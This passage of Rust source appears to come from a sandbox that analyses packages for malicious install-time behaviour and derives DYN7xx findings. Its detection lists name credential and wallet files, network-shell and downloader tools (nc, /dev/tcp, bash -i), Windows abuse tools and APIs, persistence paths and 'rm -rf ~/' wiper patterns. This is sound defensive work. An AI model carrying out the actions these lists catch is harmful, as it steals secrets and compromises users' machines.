//! Join the three views (runtime hooks, strace, network sink) into one
//! time-ordered behaviour chain and derive the `DYN7xx` findings.

use std::collections::HashMap;

use sluice_model::{Confidence, Finding, RuleCode, Severity};

use crate::canary::{CanaryHit, find_canaries, find_canaries_in_dns};
use crate::hooks::{AppEvent, locate};
use crate::runner::Raw;
use crate::strace::{SysKind, Trace};
use crate::{ChainStep, Layer, Phase, SandboxReport};

/// Rule codes of the sandbox.
pub mod rules {
    use sluice_model::RuleCode;
    /// A canary secret left the sandbox in a flow or DNS name.
    pub const CANARY_EXFIL: RuleCode = RuleCode::new("DYN701");
    /// Package code opened a network flow.
    pub const OUTBOUND: RuleCode = RuleCode::new("DYN702");
    /// Package code made DNS queries with no connection (beacon, DNS exfil).
    pub const DNS_ONLY: RuleCode = RuleCode::new("DYN703");
    /// Package code read a planted secret file.
    pub const SECRET_FILE: RuleCode = RuleCode::new("DYN704");
    /// Package code read secret environment variables or dumped the env.
    pub const SECRET_ENV: RuleCode = RuleCode::new("DYN705");
    /// Package code started a process.
    pub const SPAWN: RuleCode = RuleCode::new("DYN706");
    /// Package code compiled or evaluated code built at run time.
    pub const DYNAMIC_CODE: RuleCode = RuleCode::new("DYN707");
    /// A write to a persistence point (shell rc, .pth, autostart, cron).
    pub const PERSISTENCE: RuleCode = RuleCode::new("DYN708");
    /// A system event no runtime record explains.
    pub const UNATTRIBUTED: RuleCode = RuleCode::new("DYN709");
    /// Code fetched from the network was executed.
    pub const DOWNLOAD_EXEC: RuleCode = RuleCode::new("DYN710");
    /// Native code loaded by package code (ctypes, process.dlopen).
    pub const NATIVE: RuleCode = RuleCode::new("DYN711");
    /// The package changed or removed the sandbox's runtime hook.
    pub const TAMPER: RuleCode = RuleCode::new("DYN712");
    /// The package ran into a sandbox limit.
    pub const LIMIT: RuleCode = RuleCode::new("DYN790");
    /// A Windows payload's attempt: a program dropped, `os.startfile`,
    /// `powershell`/`cmd`/registry tools started, pywin32-style calls.
    pub const WINDOWS: RuleCode = RuleCode::new("DYN713");
    /// Package code imported a module the sandbox does not have: what came
    /// after was not seen.
    pub const MISSING_MODULE: RuleCode = RuleCode::new("DYN714");
    /// Package code killed the installer that ran it, or every process it
    /// could see: sabotage or an attempt to end the analysis.
    pub const KILL: RuleCode = RuleCode::new("DYN715");
    /// Package code deleted the user's home or files in it that are not
    /// its own build's: a wiper.
    pub const WIPE: RuleCode = RuleCode::new("DYN716");
}

/// A `*-nspkg.pth` that setuptools writes for legacy namespace packages:
/// every line is its fixed template (`import sys, types, os;has_mfs = …`)
/// with only quoted package names filled in. A call, an assignment or a
/// line added to it is not the template.
fn setuptools_nspkg(name: &str, text: &str) -> bool {
    const FIXED: &[&str] = &[
        "import sys, types, os",
        "has_mfs = sys.version_info > (3, 5)",
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *",
        "importlib = has_mfs and __import__('importlib.util')",
        "has_mfs and __import__('importlib.machinery')",
        "m = has_mfs and sys.modules.setdefault(",
        ", importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec(",
        ", [os.path.dirname(p)])))",
        "m = m or sys.modules.setdefault(",
        ", types.ModuleType(",
        "mp = (m or []) and m.__dict__.setdefault('__path__',[])",
        "(p not in mp) and mp.append(p)",
        "m and setattr(sys.modules[",
        "], ",
        ", m)",
    ];
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    name.ends_with("-nspkg.pth")
        && !lines.is_empty()
        && lines.iter().all(|l| {
            if !l.starts_with(FIXED[0]) {
                return false;
            }
            let mut rest = (*l).to_owned();
            for f in FIXED {
                rest = rest.replace(f, " ");
            }
            let b = rest.as_bytes();
            !rest.contains(['=', ':', '[', ']', '\\'])
                && !b
                    .windows(2)
                    .any(|w| (w[0].is_ascii_alphanumeric() || w[0] == b'_') && w[1] == b'(')
        })
}

/// Does `cmd` remove a home folder, the root or the user's files
/// recursively (`rm -rf ~/`, `rm -rf $HOME`, `rm -rf /`)?
fn wipes(cmd: &str) -> bool {
    let toks: Vec<&str> = cmd
        .split(|c: char| c.is_whitespace() || "`'\";|&".contains(c))
        .filter(|t| !t.is_empty())
        .collect();
    toks.iter().enumerate().any(|(i, t)| {
        if *t != "rm" && !t.ends_with("/rm") {
            return false;
        }
        let (mut recursive, mut target) = (false, false);
        for a in &toks[i + 1..] {
            if a.starts_with('-') {
                recursive |= a.contains(['r', 'R']);
            } else if wipe_target(a) {
                target = true;
            } else {
                break;
            }
        }
        recursive && target
    })
}

fn wipe_target(a: &str) -> bool {
    let a = a.trim_end_matches('*').trim_end_matches('/');
    matches!(a, "" | "~" | "$HOME" | "${HOME}" | "/home" | "/root" | "/*")
        || a.starts_with("~/.") && !a.starts_with("~/.cache")
        || a.starts_with("$HOME/.")
}

/// Is `path` (as shown, `~` for the home) the home or a user file outside
/// what installs touch (`~/.cache`, the project, the downloaded archive)?
fn user_file(path: &str) -> bool {
    path == "~"
        || path == "~/"
        || path.strip_prefix("~/").is_some_and(|rest| {
            ![
                ".cache/",
                "project/",
                "Downloads/",
                ".local/lib/",
                ".venv/",
                "AppData/Local/Temp/",
            ]
            .iter()
            .any(|k| rest.starts_with(k))
        })
}

/// Files in the home whose reading counts as touching a secret.
const SECRET_PATHS: &[&str] = &[
    "/.ssh/",
    "/.aws/",
    "/.npmrc",
    "/.pypirc",
    "/.git-credentials",
    "/.netrc",
    "/.docker/config.json",
    "/.kube/config",
    "/.gnupg/",
    "/.config/gcloud/",
    "/etc/shadow",
    "/.bash_history",
    "/.zsh_history",
    "Login Data",
    "/Cookies",
    "Local State",
    "/Web Data",
    "/key4.db",
    "/logins.json",
    "/cookies.sqlite",
    "/Local Storage/leveldb",
    "/TelegramDesktop/",
    ".session",
    "/.electrum/",
    "/Exodus/",
    "exodus.wallet",
    "/.bitcoin/",
    "/wallet.dat",
    "/Ethereum/keystore",
];
/// Files whose writing drops a Windows program or script.
const WIN_EXEC: &[&str] = &[
    ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".scr", ".dll", ".hta", ".lnk", ".msi", ".jse",
    ".wsf", ".pif",
];
/// Windows tools a payload starts.
const WIN_TOOLS: &[&str] = &[
    "powershell",
    "pwsh",
    "cmd.exe",
    "cmd /c",
    "cmd /k",
    "start ",
    "reg add",
    "reg.exe",
    "schtasks",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "taskkill",
    "attrib +h",
    "vssadmin",
    "wmic",
    "explorer",
    "msiexec",
    "netsh",
    "notepad",
    "calc",
    "tasklist",
    "ipconfig",
    "systeminfo",
    "py",
    ".exe",
    ".bat",
    ".ps1",
    ".vbs",
];
/// pywin32 / ctypes calls that are a payload's intent on sight.
const WIN_RISKY: &[&str] = &[
    "startfile",
    "ShellExecute",
    "CreateProcess",
    "WinExec",
    "RegSetValue",
    "SetValueEx",
    "CreateKey",
    "CryptUnprotectData",
    "SetClipboard",
    "GetAsyncKeyState",
    "SetWindowsHookEx",
    "URLDownloadToFile",
    "VirtualAlloc",
    "CreateRemoteThread",
    "WriteProcessMemory",
    "WScript",
    "Shell.Application",
    "keybd_event",
    "SetFileAttributes",
    "MessageBox",
    "IsDebuggerPresent",
    "CreateShortcut",
    "CredRead",
    "BlockInput",
];
/// Writes here survive the install and run later.
const PERSIST_PATHS: &[&str] = &[
    "/.bashrc",
    "/.profile",
    "/.bash_profile",
    "/.zshrc",
    "/.config/autostart/",
    "/crontab",
    "/cron.d/",
    "/.config/systemd/",
    "sitecustomize.py",
    "usercustomize.py",
    "/.ssh/authorized_keys",
];
/// Compilers and build helpers a `setup.py` runs to build an extension:
/// a command made only of these is a build step, not a payload.
const BUILD_TOOLS: &[&str] = &[
    "git",
    "hg",
    "gcc",
    "cc",
    "c++",
    "g++",
    "clang",
    "clang++",
    "ld",
    "ar",
    "as",
    "strip",
    "pkg-config",
    "cmake",
    "make",
    "ninja",
    "meson",
    "cython",
    "rustc",
    "cargo",
    "gfortran",
    "ldconfig",
    "xml2-config",
    "xslt-config",
    "mysql_config",
    "pg_config",
    "python3-config",
];

/// Does the command line `cmd` mention `tool`? A plain program name
/// (`nc`, `curl`, `wmic`) must be a whole word, compared by its file name
/// with `.exe` dropped (`/usr/bin/curl`, `curl.exe`): `-Isrc/lxml/includes`
/// does not mention `nc`. Patterns with a space, slash or dot (`base64 -d`,
/// `/dev/tcp`, `.exe`) are matched as text.
fn mentions_tool(cmd: &str, tool: &str) -> bool {
    if tool.contains([' ', '/', '.', '+']) {
        return cmd.contains(tool);
    }
    words(cmd).any(|w| w == tool)
}

/// The program names in a command line: each word's file name, lowercase,
/// without `.exe`.
fn words(cmd: &str) -> impl Iterator<Item = String> + '_ {
    cmd.split(|c: char| c.is_whitespace() || "'\"`;|&()<>,[]=$".contains(c))
        .filter(|w| !w.is_empty())
        .map(|w| {
            let base = w
                .rsplit(['/', '\\'])
                .next()
                .unwrap_or(w)
                .to_ascii_lowercase();
            base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
        })
}

/// Is `cmd` only a build step: its program (after unwrapping `sh -c`) is
/// a compiler or build helper and the script chains nothing else?
fn build_step(cmd: &str) -> bool {
    let cmd = cmd.trim().trim_start_matches("runs ").trim_matches('`');
    let mut toks = cmd.split_whitespace();
    let Some(first) = toks.next() else {
        return false;
    };
    let prog = first.rsplit('/').next().unwrap_or(first);
    if matches!(prog, "sh" | "bash" | "dash") {
        if toks.next() != Some("-c") {
            return false;
        }
        let script: String = toks.collect::<Vec<_>>().join(" ");
        if script.contains([';', '|', '&', '`', '$', '>', '<', '\n']) {
            return false;
        }
        return build_step(&script);
    }
    BUILD_TOOLS.contains(&prog)
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "powershell",
    "pwsh",
    "/dev/tcp",
    "base64 -d",
    "chmod +x",
    "python -c",
    "bash -i",
];

struct Step {
    s: ChainStep,
    /// Runtime culprit string, for joining.
    key: String,
}

fn phase_of(raw: &Raw, t: f64) -> Phase {
    let mut best = raw.phases.first().map_or(Phase::Install, |p| p.0.phase);
    for (p, t0, _t1) in &raw.phases {
        if *t0 > 0.0 && t >= *t0 - 0.05 {
            best = p.phase;
        }
    }
    best
}

pub(crate) fn short(s: &str, n: usize) -> String {
    let one: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if one.chars().count() > n {
        format!("{}…", one.chars().take(n).collect::<String>())
    } else {
        one
    }
}

/// Normalise a command for comparison: quotes, brackets and commas gone,
/// whitespace collapsed.
fn norm_cmd(s: &str) -> String {
    let cleaned: String = s
        .chars()
        .map(|c| {
            if matches!(c, '[' | ']' | '\'' | '"' | ',' | '\\') {
                ' '
            } else {
                c
            }
        })
        .collect();
    cleaned.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The command an app spawn event starts, as text.
fn spawn_text(e: &AppEvent) -> Option<String> {
    let a0 = e.args.first().cloned().unwrap_or_default();
    let a1 = e.args.get(1).cloned().unwrap_or_default();
    let t = match e.api.as_str() {
        "os.system" => a0,
        "subprocess.Popen" => {
            if a1.is_empty() || a1 == "None" {
                a0
            } else {
                a1
            }
        }
        "os.exec" | "os.posix_spawn" | "os.spawn" | "pty.spawn" => {
            if a1.is_empty() {
                a0
            } else {
                a1
            }
        }
        api if api.starts_with("child_process.") => {
            if let Ok(serde_json::Value::Array(items)) =
                serde_json::from_str::<serde_json::Value>(&a1)
            {
                let parts: Vec<String> = items
                    .iter()
                    .filter_map(|v| v.as_str().map(str::to_owned))
                    .collect();
                format!("{a0} {}", parts.join(" "))
            } else if a1.is_empty() || a1 == "undefined" || a1 == "[]" {
                a0
            } else {
                format!("{a0} {a1}")
            }
        }
        _ => return None,
    };
    let n = norm_cmd(&t);
    (!n.is_empty()).then_some(n)
}

pub(crate) fn is_spawn(api: &str) -> bool {
    matches!(
        api,
        "os.system" | "subprocess.Popen" | "os.exec" | "os.posix_spawn" | "os.spawn" | "pty.spawn"
    ) || api.starts_with("child_process.")
}

/// `('1.2.3.4', 80)` or `{"host":"x","port":80}` → `(host, port)`.
fn host_port(s: &str) -> Option<(String, u16)> {
    if let Ok(v) = serde_json::from_str::<serde_json::Value>(s) {
        let host = v.get("host").and_then(|h| h.as_str())?.to_owned();
        let port = v.get("port").and_then(|p| {
            p.as_u64()
                .or_else(|| p.as_str().and_then(|s| s.parse().ok()))
        })?;
        return Some((host, u16::try_from(port).ok()?));
    }
    let t = s.trim().trim_start_matches('(').trim_end_matches(')');
    let mut it = t.split(',');
    let host = it
        .next()?
        .trim()
        .trim_matches('\'')
        .trim_matches('"')
        .to_owned();
    let port = it.next()?.trim().parse().ok()?;
    Some((host, port))
}

fn runtime_step(raw: &Raw, e: &AppEvent) -> Option<(String, String)> {
    let a0 = e.args.first().cloned().unwrap_or_default();
    let a1 = e.args.get(1).cloned().unwrap_or_default();
    let canary_env: Vec<&str> = raw.bait.env.iter().map(|(k, _)| k.as_str()).collect();
    let r = match e.api.as_str() {
        "socket.connect" | "net.connect" => {
            let (h, p) = host_port(if e.node { &a0 } else { &a1 })?;
            if h.starts_with('/') || h.is_empty() {
                return None; // unix socket
            }
            ("connect", format!("connects to {h}:{p}"))
        }
        "http.client.connect" => (
            "connect",
            format!(
                "connects to {}:{}",
                a1,
                e.args.get(2).cloned().unwrap_or_default()
            ),
        ),
        "socket.getaddrinfo" | "socket.gethostbyname" | "socket.gethostbyaddr" => {
            if a0.is_empty()
                || a0 == "None"
                || a0 == "localhost"
                || a0.parse::<std::net::IpAddr>().is_ok()
            {
                return None;
            }
            ("dns", format!("looks up {a0}"))
        }
        api if api.starts_with("dns.") => (
            "dns",
            format!(
                "looks up {a0} ({})",
                api.trim_start_matches("dns.")
                    .trim_start_matches("promises.")
            ),
        ),
        "urllib.Request" => {
            let method = e.args.get(3).filter(|m| m.as_str() != "None").cloned();
            let data = a1 != "None" && !a1.is_empty();
            let m = method.unwrap_or_else(|| if data { "POST".into() } else { "GET".into() });
            ("http", format!("{m} {a0}"))
        }
        "https.request" | "https.get" | "http.request" | "http.get" => {
            ("http", format!("{} {}", e.api, short(&a0, 160)))
        }
        "socket.gethostname" | "os.hostname" => ("recon", "reads the host name".to_owned()),
        "os.userInfo" => ("recon", "reads the user name".to_owned()),
        "os.networkInterfaces" => ("recon", "lists network interfaces".to_owned()),
        "venv.env.read" | "process.env.get" => {
            if canary_env.contains(&a0.as_str()) {
                ("env-secret", format!("reads env {a0}"))
            } else if matches!(a0.as_str(), "USER" | "LOGNAME" | "USERNAME") {
                ("recon", "reads the user name".to_owned())
            } else if a0 == "HOSTNAME" {
                ("recon", "reads the host name".to_owned())
            } else {
                ("env-secret", format!("reads env {a0}"))
            }
        }
        "venv.env.enumerate" | "process.env.enumerate" => {
            ("env-dump", "reads the whole environment".to_owned())
        }
        "open" => {
            let mode = a1.clone();
            let writing = mode.contains(['w', 'a', 'x', '+']);
            let lower = a0.to_ascii_lowercase();
            if writing && PERSIST_PATHS.iter().any(|p| a0.contains(p)) {
                ("write", format!("writes {}", tilde(raw, &a0)))
            } else if writing && WIN_EXEC.iter().any(|x| lower.ends_with(x)) {
                (
                    "drop-exe",
                    format!("writes the Windows program {}", tilde(raw, &a0)),
                )
            } else if SECRET_PATHS.iter().any(|p| a0.contains(p)) {
                ("read-secret", format!("reads {}", tilde(raw, &a0)))
            } else {
                return None;
            }
        }
        api if api.starts_with("fs.") => {
            let writing = api.contains("write") || api.contains("append") || api.contains("Write");
            if writing {
                ("write", format!("writes {}", tilde(raw, &a0)))
            } else {
                ("read-secret", format!("reads {}", tilde(raw, &a0)))
            }
        }
        "compile" | "Function" | "eval" | "vm.runInThisContext" | "vm.runInNewContext" => (
            "dynamic-code",
            format!("runs code built at run time: {}", short(&a0, 300)),
        ),
        "marshal.loads" => ("dynamic-code", "loads marshalled code".to_owned()),
        "ctypes.dlopen" | "process.dlopen" => (
            "native-load",
            format!("loads native library {}", short(&a0, 100)),
        ),
        "os.remove" | "shutil.rmtree" => ("delete", format!("deletes {}", tilde(raw, &a0))),
        "os.kill" => {
            let sig = e.args.get(1).map_or("", String::as_str);
            let whose = e.args.get(2).map_or("", String::as_str);
            if sig == "0" || !matches!(whose, "parent" | "all" | "group") {
                return None;
            }
            (
                "kill",
                format!(
                    "sends signal {sig} to {}",
                    match whose {
                        "parent" => "the installer that ran it",
                        "all" => "every process it can see",
                        _ => "a process group",
                    }
                ),
            )
        }
        api if is_spawn(api) => ("exec", format!("runs `{}`", short(&spawn_text(e)?, 160))),
        "venv.win" => {
            let rest: Vec<&str> = e.args.iter().skip(1).map(String::as_str).collect();
            if let Some(m) = a0.strip_prefix("import ") {
                ("windows", format!("imports the Windows module {m}"))
            } else if a0 == "os.startfile" {
                (
                    "windows",
                    format!("starts {} with os.startfile", tilde(raw, &a1)),
                )
            } else {
                (
                    "windows",
                    format!("calls {a0}({})", short(&rest.join(", "), 200)),
                )
            }
        }
        "venv.import-missing" => (
            "missing-module",
            format!("imports {a0}, which this machine does not have"),
        ),
        _ => return None,
    };
    Some((r.0.to_owned(), r.1))
}

fn tilde(raw: &Raw, p: &str) -> String {
    p.strip_prefix(&raw.home)
        .map_or_else(|| p.to_owned(), |r| format!("~{r}"))
}

/// A process's explanation: the culprit behind the app spawn that started
/// it (or one of its ancestors), and that spawn's command text.
#[derive(Clone)]
struct Why {
    culprit: Option<String>,
    lifecycle: Option<String>,
    text: String,
}

/// Map host pids of one trace to the app spawn that explains them.
/// An exec no runtime record explains: host pid, time, argv.
type Unexplained = (u32, f64, Vec<String>);

fn explain(trace: &Trace, app: &[AppEvent]) -> (HashMap<u32, Why>, Vec<Unexplained>) {
    let spawns: Vec<(&AppEvent, String)> = app
        .iter()
        .filter(|e| is_spawn(&e.api))
        .filter_map(|e| Some((e, spawn_text(e)?)))
        .collect();
    let mut why: HashMap<u32, Why> = HashMap::new();
    let mut unexplained = Vec::new();
    let mut first = true;
    for ev in &trace.events {
        let SysKind::Exec { argv, path } = &ev.kind else {
            continue;
        };
        if !ev.ok {
            continue;
        }
        if first {
            // strace's own child: setpriv → bwrap → the phase command.
            first = false;
            continue;
        }
        let base = path.rsplit('/').next().unwrap_or("");
        if matches!(base, "setpriv" | "bwrap") {
            continue;
        }
        let text = norm_cmd(&argv.join(" "));
        // Direct match: a runtime recorded starting this very command.
        let direct = spawns
            .iter()
            .filter(|(e, _)| e.t <= ev.t + 1.0 && ev.t - e.t < 30.0)
            .find(|(_, s)| {
                !s.is_empty() && (text == *s || text.ends_with(s.as_str()) || s.ends_with(&text))
            });
        if let Some((e, s)) = direct {
            why.insert(
                ev.pid,
                Why {
                    culprit: e.culprit.clone(),
                    lifecycle: e.spawns_lifecycle.clone(),
                    text: s.clone(),
                },
            );
            continue;
        }
        // Part of an explained ancestor's command (a pipeline inside sh -c),
        // or the same process re-exec'ing (env → node, sh → cmd).
        let anc = trace.ancestry(ev.pid);
        let inherited = anc.iter().find_map(|p| why.get(p).cloned());
        // A hooked runtime (python, node, a venv console script) records
        // every process it starts; a child of one without such a record
        // went around the hook. Children of other programs (a shell script
        // pip runs, like lsb_release) belong to their parent.
        let parent_hooked = trace
            .parent
            .get(&ev.pid)
            .and_then(|pp| trace.argv_of(*pp))
            .and_then(|a| a.first())
            .is_some_and(|a0| {
                let b = a0.rsplit('/').next().unwrap_or(a0);
                b.starts_with("python")
                    || b == "node"
                    || a0.contains("/.venv/bin/")
                    || a0.contains("/node_modules/.bin/")
            });
        let in_parent_text = |w: &Why| {
            w.text.contains(&text)
                || text.split(' ').next().is_some_and(|cmd0| {
                    let base = cmd0.rsplit('/').next().unwrap_or(cmd0);
                    w.text
                        .split_whitespace()
                        .any(|t| t == base || t.ends_with(&format!("/{base}")))
                })
        };
        match inherited {
            Some(w) if in_parent_text(&w) || w.culprit.is_some() || !parent_hooked => {
                // Part of an explained command, a descendant of a package
                // spawn, or the child of a non-runtime program.
                why.insert(ev.pid, w);
            }
            _ => {
                let is_runtime = matches!(base, "python" | "python3" | "node" | "npm")
                    || base.starts_with("python3.");
                // The phase's own command (bwrap → driver) has no record.
                let top_level = inherited.is_none() && anc.len() <= 3;
                if !(is_runtime && top_level) {
                    unexplained.push((ev.pid, ev.t, argv.clone()));
                }
            }
        }
    }
    (why, unexplained)
}

/// Where an app event happened in the package. Code run by `exec` has
/// line numbers of the executed string; point at the `exec` call site (the
/// first real file on the stack) and say so.
fn event_location(e: &AppEvent, culprit: &str, what: &mut String) -> (Option<String>, Option<u32>) {
    let (file, line, exec) = locate(culprit);
    if exec && let Some(real) = e.chain.iter().find(|c| !c.starts_with('<')) {
        let (f, l, _) = locate(real);
        what.push_str(&format!(" (in exec'd code, its line {line})"));
        return (Some(f), (l > 0).then_some(l));
    }
    (Some(file), (line > 0).then_some(line))
}

fn loc_of(culprit: Option<&str>) -> (Option<String>, Option<u32>, bool) {
    match culprit {
        Some(c) => {
            let (f, l, exec) = locate(c);
            (Some(f), (l > 0).then_some(l), exec)
        }
        None => (None, None, false),
    }
}

#[allow(clippy::too_many_lines)]
pub(crate) fn analyze(raw: Raw) -> SandboxReport {
    let mut steps: Vec<Step> = Vec::new();
    let canaries = raw.bait.canaries.clone();

    // 1. Runtime view: package frames only.
    let compiled: Vec<&str> = raw
        .app
        .iter()
        .filter(|e| e.api == "compile")
        .filter_map(|e| e.culprit.as_deref())
        .collect();
    for e in &raw.app {
        let Some(c) = e.culprit.as_deref() else {
            // npm starting a lifecycle script is the package's doing.
            if let (Some(lc), true) = (&e.spawns_lifecycle, is_spawn(&e.api)) {
                steps.push(Step {
                    s: ChainStep {
                        t: e.t,
                        phase: phase_of(&raw, e.t),
                        layer: Layer::Runtime,
                        kind: "exec".into(),
                        file: Some("package.json".into()),
                        line: None,
                        what: format!(
                            "npm runs the {lc} script `{}`",
                            short(&spawn_text(e).unwrap_or_default(), 160)
                        ),
                        canaries: Vec::new(),
                        detail: None,
                        stack: Vec::new(),
                        confirmed: false,
                        unattributed: false,
                        count: 1,
                    },
                    key: String::new(),
                });
            }
            continue;
        };
        if e.api == "exec" && compiled.contains(&c) {
            continue; // the compile event already holds the source
        }
        let Some((kind, mut what)) = runtime_step(&raw, e) else {
            continue;
        };
        if let Some(via) = &e.via {
            // It happened inside a dependency the package called: the
            // package line is the culprit, the dependency line is where.
            let (f, l, _) = locate(via);
            what.push_str(&format!(" (inside {f}:{l})"));
        }
        // Files, env and native loads done by build tooling on the
        // package's behalf (setuptools inside setup()) are not its doing.
        if !e.direct
            && matches!(
                kind.as_str(),
                "native-load"
                    | "read-secret"
                    | "write"
                    | "drop-exe"
                    | "delete"
                    | "env-secret"
                    | "env-dump"
            )
        {
            continue;
        }
        let (file, line) = event_location(e, c, &mut what);
        let detail = (kind == "dynamic-code").then(|| e.args.first().cloned().unwrap_or_default());
        steps.push(Step {
            s: ChainStep {
                t: e.t,
                phase: phase_of(&raw, e.t),
                layer: Layer::Runtime,
                kind,
                file,
                line,
                what,
                canaries: Vec::new(),
                detail,
                stack: e
                    .chain
                    .iter()
                    .map(|c| {
                        let (f, l, exec) = locate(c);
                        format!("{f}:{l}{}", if exec { " (exec'd code)" } else { "" })
                    })
                    .collect(),
                confirmed: false,
                unattributed: false,
                count: 1,
            },
            key: c.to_owned(),
        });
    }

    // 2. System view: explain each exec, note unexplained ones and
    //    secret reads / persistence writes by processes no hook watches.
    let mut why_by_phase: Vec<(Phase, HashMap<u32, Why>)> = Vec::new();
    for (phase, trace) in &raw.traces {
        let (why, unexplained) = explain(trace, &raw.app);
        for (_pid, t, argv) in unexplained {
            steps.push(Step {
                s: ChainStep {
                    t,
                    phase: *phase,
                    layer: Layer::System,
                    kind: "exec".into(),
                    file: None,
                    line: None,
                    what: format!(
                        "runs `{}` (no runtime record: native code or a bypassed hook)",
                        short(&argv.join(" "), 160)
                    ),
                    canaries: Vec::new(),
                    detail: None,
                    stack: Vec::new(),
                    confirmed: false,
                    unattributed: true,
                    count: 1,
                },
                key: String::new(),
            });
        }
        for ev in &trace.events {
            let (path, write) = match &ev.kind {
                SysKind::Open { path, write } if ev.ok => (path, *write),
                _ => continue,
            };
            let argv = trace.argv_of(ev.pid).unwrap_or(&[]);
            let base = argv
                .first()
                .map_or("", |a| a.rsplit('/').next().unwrap_or(""));
            let hooked = base.starts_with("python") || base == "node";
            let persist = write && PERSIST_PATHS.iter().any(|p| path.contains(p));
            let secret = !write
                && SECRET_PATHS.iter().any(|p| path.contains(p))
                && path.starts_with(&raw.home);
            if !(persist || secret) || hooked {
                continue;
            }
            // A runtime saw this open (package or tooling): the runtime
            // record explains it, tooling reads (npm reading its .npmrc)
            // are no finding.
            let seen_by_runtime = raw.app.iter().any(|a| {
                (a.t - ev.t).abs() < 5.0
                    && a.args.first().is_some_and(|x| {
                        !x.is_empty() && (x == path || path.ends_with(x.trim_start_matches('~')))
                    })
            });
            if seen_by_runtime {
                continue;
            }
            let w = trace
                .ancestry(ev.pid)
                .iter()
                .find_map(|p| why.get(p).cloned());
            let (file, line, _) = loc_of(w.as_ref().and_then(|w| w.culprit.as_deref()));
            let file = file.or_else(|| {
                w.as_ref()
                    .and_then(|w| w.lifecycle.as_ref())
                    .map(|_| "package.json".to_owned())
            });
            steps.push(Step {
                s: ChainStep {
                    t: ev.t,
                    phase: *phase,
                    layer: Layer::System,
                    kind: if persist {
                        "write".into()
                    } else {
                        "read-secret".into()
                    },
                    file,
                    line,
                    what: format!(
                        "`{}` {} {}",
                        short(&argv.join(" "), 80),
                        if persist { "writes" } else { "reads" },
                        tilde(&raw, path)
                    ),
                    canaries: Vec::new(),
                    detail: None,
                    stack: Vec::new(),
                    confirmed: false,
                    unattributed: w.is_none(),
                    count: 1,
                },
                key: w.and_then(|w| w.culprit).unwrap_or_default(),
            });
        }
        why_by_phase.push((*phase, why));
    }

    // 3. Network view: every flow and question, joined to the runtime
    //    record that asked for it, else to the process that connected.
    let fake_names: HashMap<String, String> = raw
        .net
        .iter()
        .filter(|r| r.proto != "dns")
        .filter_map(|r| Some((r.dst.clone()?, r.name.clone()?)))
        .collect();
    let connected_names: Vec<String> = fake_names.values().cloned().collect();
    for r in &raw.net {
        let phase = phase_of(&raw, r.t);
        let (kind, what, hits): (&str, String, Vec<CanaryHit>) = if r.proto == "dns" {
            let name = r.name.clone().unwrap_or_default();
            let hits = find_canaries_in_dns(&name, &canaries);
            (
                "dns",
                format!(
                    "DNS {} query for {}",
                    r.qtype.as_deref().unwrap_or("?"),
                    short(&name, 200)
                ),
                hits,
            )
        } else {
            let dest = format!(
                "{}:{}{}",
                r.dst.as_deref().unwrap_or("?"),
                r.port.unwrap_or(0),
                r.name
                    .as_deref()
                    .map(|n| format!(" ({n})"))
                    .unwrap_or_default()
            );
            let hits = find_canaries(&r.raw, &canaries);
            if let Some(h) = &r.http {
                let host = r
                    .host
                    .as_deref()
                    .map(|h| format!(" Host: {h}"))
                    .unwrap_or_default();
                (
                    "http",
                    format!(
                        "sends `{}`{host} to {dest} ({} bytes)",
                        short(h, 160),
                        r.bytes
                    ),
                    hits,
                )
            } else if let Some(sni) = &r.sni {
                ("tls", format!("opens TLS to {dest} (SNI {sni})"), hits)
            } else if r.bytes > 0 {
                (
                    "send",
                    format!(
                        "sends {} bytes over {} to {dest}: `{}`",
                        r.bytes,
                        r.proto,
                        short(&r.payload, 80)
                    ),
                    hits,
                )
            } else {
                (
                    "connect",
                    format!("connects over {} to {dest} (sent nothing)", r.proto),
                    hits,
                )
            }
        };
        // Join: the runtime step naming this destination, nearest before.
        let dst = r.dst.clone().unwrap_or_default();
        let port = r.port.unwrap_or(0).to_string();
        let name = r.name.clone().unwrap_or_default();
        let matcher = |s: &Step| {
            s.s.layer == Layer::Runtime
                && s.s.t <= r.t + 0.5
                && r.t - s.s.t < 20.0
                && match r.proto.as_str() {
                    "dns" => s.s.kind == "dns" && !name.is_empty() && s.s.what.contains(&name),
                    _ => {
                        (s.s.kind == "connect"
                            && (s.s.what.contains(&format!("{dst}:{port}"))
                                || (!name.is_empty()
                                    && s.s.what.contains(&format!("{name}:{port}")))))
                            || (s.s.kind == "http" && !name.is_empty() && s.s.what.contains(&name))
                    }
                }
        };
        let joined = steps
            .iter_mut()
            .filter(|s| matcher(s))
            .max_by(|a, b| a.s.t.total_cmp(&b.s.t));
        let (mut file, mut line, mut key, mut unattributed) = (None, None, String::new(), true);
        if let Some(j) = joined {
            j.s.confirmed = true;
            file = j.s.file.clone();
            line = j.s.line;
            key = j.key.clone();
            unattributed = false;
        } else if r.proto != "dns" {
            // Fall back to strace: which process connected there?
            for (phase_t, trace) in &raw.traces {
                let hit = trace.events.iter().find(|e| matches!(&e.kind, SysKind::Connect { addr, port: p } if *addr == dst && p.to_string() == port));
                if let Some(e) = hit {
                    let why = why_by_phase
                        .iter()
                        .find(|(p, _)| p == phase_t)
                        .map(|(_, w)| w);
                    let w = why
                        .and_then(|w| trace.ancestry(e.pid).iter().find_map(|p| w.get(p).cloned()));
                    // Only a package spawn (or npm lifecycle script)
                    // explains a flow; tooling ancestry does not.
                    if let Some(w) = w.filter(|w| w.culprit.is_some() || w.lifecycle.is_some()) {
                        let (f, l, _) = loc_of(w.culprit.as_deref());
                        file =
                            f.or_else(|| w.lifecycle.as_ref().map(|_| "package.json".to_owned()));
                        line = l;
                        key = w.culprit.unwrap_or_default();
                        unattributed = false;
                    }
                    break;
                }
            }
        } else {
            // A DNS question no runtime record names: attribute to the
            // lifecycle script or process when strace can't say either.
            unattributed = true;
        }
        let dns_with_flow =
            r.proto == "dns" && connected_names.iter().any(|n| Some(n) == r.name.as_ref());
        if dns_with_flow && hits.is_empty() {
            // The flow that follows tells the story; keep the chain short.
